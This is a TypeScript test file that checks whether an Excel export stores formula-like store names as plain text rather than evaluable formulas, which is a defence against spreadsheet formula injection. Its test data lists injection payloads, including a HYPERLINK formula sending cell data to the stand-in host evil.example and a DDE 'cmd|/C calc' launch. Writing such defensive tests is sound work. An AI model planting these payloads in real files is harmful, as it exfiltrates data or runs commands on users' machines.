// Insider suite, exports: a name written like a formula (a store named `=HYPERLINK(...)`) reaches the
// Excel export as text, never as a formula the spreadsheet would evaluate on opening.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Json } from '../../src/platform/exports/csv-rows.js';
import { xlsxStream } from '../../src/platform/exports/xlsx-rows.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1)', '=1+1'];

async function* pagesOf(rows: Json[]): AsyncGenerator<Json[]> {
  yield rows;
}

async function workbookOf(stream: NodeJS.ReadableStream): Promise<ExcelJS.Workbook> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
  return workbook;
}

describe('insider: formula-like text in the Excel export', () => {
  it('writes every formula-like name as a text cell holding exactly that text', async () => {
    const rows = HOSTILE.map((name, index) => ({ id: index + 1, name, city: { name } }));
    const workbook = await workbookOf(xlsxStream('stores', ['id', 'name', 'city.name'], pagesOf(rows)));
    const sheet = workbook.getWorksheet('stores');
    expect(sheet).toBeDefined();
    HOSTILE.forEach((name, index) => {
      const row = sheet!.getRow(index + 2);
      for (const column of [2, 3]) {
        const cell = row.getCell(column);
        expect(cell.type, name).toBe(ExcelJS.ValueType.String);
        expect(cell.formula, name).toBeUndefined();
        expect(cell.value, name).toBe(name);
      }
      expect(row.getCell(1).value).toBe(index + 1);
    });
  });
});
